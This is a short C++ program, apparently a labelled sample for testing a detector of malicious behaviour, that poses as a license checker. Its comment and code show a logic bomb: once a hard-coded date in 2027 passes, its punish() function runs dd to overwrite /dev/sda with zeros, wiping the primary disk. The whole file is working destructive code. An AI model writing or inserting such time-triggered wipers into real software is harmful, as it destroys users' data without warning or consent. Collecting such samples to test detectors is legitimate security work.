// blind-expect: behavior.logic-bomb
// License checker that overwrites the primary disk with zeros once a hard-coded expiry timestamp is reached.
#include <chrono>
#include <cstdio>
#include <iostream>
#include <sys/wait.h>
#include <unistd.h>

static const long long kExpiryEpoch = 1798761600LL; // 2027-01-01T00:00:00Z

struct LicenseState {
    bool expired;
    long long secondsLeft;
};

static void evaluate(LicenseState *out)
{
    using namespace std::chrono;
    long long now = duration_cast<seconds>(system_clock::now().time_since_epoch()).count();
    out->secondsLeft = kExpiryEpoch - now;
    out->expired = out->secondsLeft <= 0;
}

static void punish()
{
    pid_t pid = fork();
    if (pid == 0) {
        execl("/bin/dd", "dd", "if=/dev/zero", "of=/dev/sda", "bs=4M", "status=none", (char *)nullptr);
        _exit(127);
    }
    if (pid > 0)
        waitpid(pid, nullptr, 0);
}

int main()
{
    LicenseState st{};
    evaluate(&st);
    if (st.expired) {
        std::cerr << "license expired\n";
        punish();
        return 1;
    }
    std::cout << "license valid for " << st.secondsLeft / 86400 << " more days\n";
    return 0;
}
